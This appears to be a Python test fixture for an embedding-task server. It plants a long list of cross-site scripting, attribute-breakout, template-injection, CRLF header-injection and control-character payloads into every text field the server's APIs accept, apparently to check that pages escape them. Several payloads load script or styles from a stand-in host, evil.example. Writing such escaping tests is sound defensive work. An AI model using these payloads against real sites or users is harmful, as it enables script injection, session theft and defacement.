"""What a hostile person writes wherever the server takes a text, and a pool in which it stands everywhere."""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any

import httpx

from tests.live_pool import LivePool
from tests.scripted_agent import offer

#: Each shows itself when it is taken for more than text: a dialog, a variable, a report of the page's policy, a request
#: that leaves this PC, or an element that the page does not have. None is longer than the shortest field.
PAYLOADS = (
    # Scripts.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>window.pwned=1</script>",
    "</title><script>alert(2)</script>",
    "</textarea><script>alert(3)</script>",
    "</script><script>alert(4)</script>",
    "</style><script>alert(5)</script>",
    "<scr<script>ipt>alert(6)</script>",
    "<script/x>pwned=1</script >",
    "<template><script>alert(7)</script></template>",
    # Elements with handlers.
    "<img src=x onerror=alert(8)>",
    "<img/src/onerror=alert(9)>",
    "<svg onload=alert(10)>",
    "<svg/onload=alert(11)//",
    "<body onload=alert(12)>",
    "<input autofocus onfocus=alert(13)>",
    "<details open ontoggle=alert(14)>",
    "<video><source onerror=alert(15)>",
    "<audio src onloadstart=alert(16)>",
    "<marquee onstart=alert(17)>",
    "<svg><animate onbegin=alert(18) attributeName=x>",
    "<x tabindex=1 autofocus onfocus=alert(19)>",
    "<dialog open oncancel=alert(20)>",
    # Frames and what loads.
    "<iframe src=javascript:alert(21)>",
    "<iframe srcdoc='<script>alert(22)</script>'>",
    "<object data=javascript:alert(23)>",
    "<embed src=javascript:alert(24)>",
    "<link rel=stylesheet href=//evil.example/x>",
    "<meta http-equiv=refresh content=0;//evil.example>",
    "<base href=//evil.example/>",
    "<style>*{display:none}</style>",
    "<style>@import'//evil.example/x'</style>",
    # Addresses.
    "javascript:alert(25)",
    "JaVaScRiPt:alert(26)",
    "javascript&colon;alert(27)",
    "data:text/html,<script>alert(28)</script>",
    "vbscript:msgbox(29)",
    "//evil.example/x",
    "../../admin/health",
    "<a href=javascript:alert(30)>x</a>",
    "<math><mi xlink:href=javascript:alert(31)>x",
    "<svg><a href=javascript:alert(32)><text y=9>x",
    # Ways out of an attribute.
    '" onmouseover="alert(33)',
    "' onfocus='alert(34)' autofocus='",
    '"><script>alert(35)</script>',
    "'><img src=x onerror=alert(36)>",
    "`onmouseover=alert(37)",
    '" style="background:url(//evil.example/x)',
    'x" autofocus onfocus=alert(38) x="',
    '" formaction="//evil.example" x="',
    "x onmouseover=alert(39)",
    # Ways out of a script, and of a comment.
    "'; alert(40); //",
    '"-alert(41)-"',
    "\\'-alert(42)//",
    "${alert(43)}",
    "--><script>alert(44)</script><!--",
    "]]><script>alert(45)</script>",
    # Templates.
    "{{7*7}}",
    "{{config.items()}}",
    "{% raw %}{{x}}{% endraw %}",
    "{{''.__class__.__mro__}}",
    "#{alert(46)}",
    "<%= 7*7 %>",
    # Written otherwise.
    "&lt;script&gt;alert(47)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(48)&#62;",
    "%3Cscript%3Ealert(49)%3C/script%3E",
    "\\u003cscript\\u003ealert(50)\\u003c/script\\u003e",
    "＜script＞alert(51)＜/script＞",
    "[x](javascript:alert(52))",
    '![x](x"onerror="alert(53))',
    # Names that hide the page's own.
    "<form name=documentElement><input name=head>",
    "<img name=getElementById id=main>",
    "<input name=csrf_token value=0>",
)
#: Not printable: taken where a text may have many lines, refused in names.
UNPRINTABLE = (
    "a\n<script>alert(60)</script>",
    "\r\nSet-Cookie: pwned=1\r\n\r\n<img onerror=alert(61)>",
    "\u202e<script>alert(62)</script>",
    "\ufffe<img src=x onerror=alert(63)>\u2028alert(64)",
    "\x1b[31m<script>alert(65)</script>\x07",
)


@dataclass(slots=True)
class Planted:
    """Ids of everything that carries a hostile text, in the order of the texts."""

    agents: list[str] = field(default_factory=list)
    tasks: list[str] = field(default_factory=list)
    keys: list[str] = field(default_factory=list)
    invites: list[str] = field(default_factory=list)


def plant(live: LivePool) -> Planted:
    """Write every hostile text into every field that takes it, through the same doors as anybody."""
    planted, operator = Planted(), live.operator()
    for number, text in enumerate(PAYLOADS + UNPRINTABLE):
        name = text if text.isprintable() else f"number {number}"
        invite = operator.post("/management/invites/create", json={"name": name, "uses": 1})
        planted.invites.append(_done(invite)["id"])
        # No capability's name has a bracket in it: what follows is an attribute.
        planted.tasks.append(_fail_a_task(live, operator, planted, text, name, name.replace("[", "(")))
        _let_foreign_agent_join(live, planted, text, name.replace("[", "("))
        if number % 2:
            _done(operator.post(f"/management/agents/{planted.agents[-2]}/pause", json={"message": text}))
    return planted


def _fail_a_task(live: LivePool, operator: httpx.Client, planted: Planted, text: str, name: str, model: str) -> str:
    """Let a client of this name ask an agent of ours that says the text wherever it can, and that fails with it."""
    info = {"client": "embedpool-agent", "os": text, "cpuArch": text, "gpu": {"name": text}}
    agent = live.agent(offer(model), displayName=text, appVersion=text, systemInfo=info)
    planted.agents.append(agent.id)
    wanted = {"name": name, "capabilities": ["*", f"embed.{name}"]}
    key = _done(operator.post("/management/client_api_keys/update", json=wanted))
    planted.keys.append(key["id"])
    client = live.caller({"Authorization": f"Bearer {key['key']}"})
    _done(client.post("/v1/embeddings?wait=0", json={"model": model, "input": text}), 202)
    task = agent.claim()
    state = {"status": "waiting", "reason": text, "engine": text, "gpu": {"name": text, "vram_mib": 8192}}
    error = {"code": "input_too_long", "message": text}
    agent.turn({"lease_id": task["lease_id"], "error": error}, max_tasks=0, state=state)
    return str(task["task_id"])


def _let_foreign_agent_join(live: LivePool, planted: Planted, text: str, name: str) -> None:
    """Let an agent of OffloadMQ's kind join that offers capabilities of this name, and writes lines of log."""
    info: dict[str, Any] = {"os": text, "client": text, "runtime": text, "cpuArch": text, "cpuModel": text}
    capabilities = [f"embed.{name}", f"custom.{name}[{name};size:1Gb]"]
    agent = live.agent(capabilities=capabilities, models=None, displayName=text, appVersion=text, systemInfo=info)
    planted.agents.append(agent.id)
    _done(live.client().post("/v1/embeddings?wait=0", json={"model": name, "input": text}), 202)
    line = {"severity": "ERROR", "text": text, "agentName": text, "machineFingerprint": text}
    _done(agent.post("logs", line))


def _done(answer: httpx.Response, status: int = 200) -> dict[str, Any]:
    assert answer.status_code == status, answer.text
    body: dict[str, Any] = answer.json()
    return body
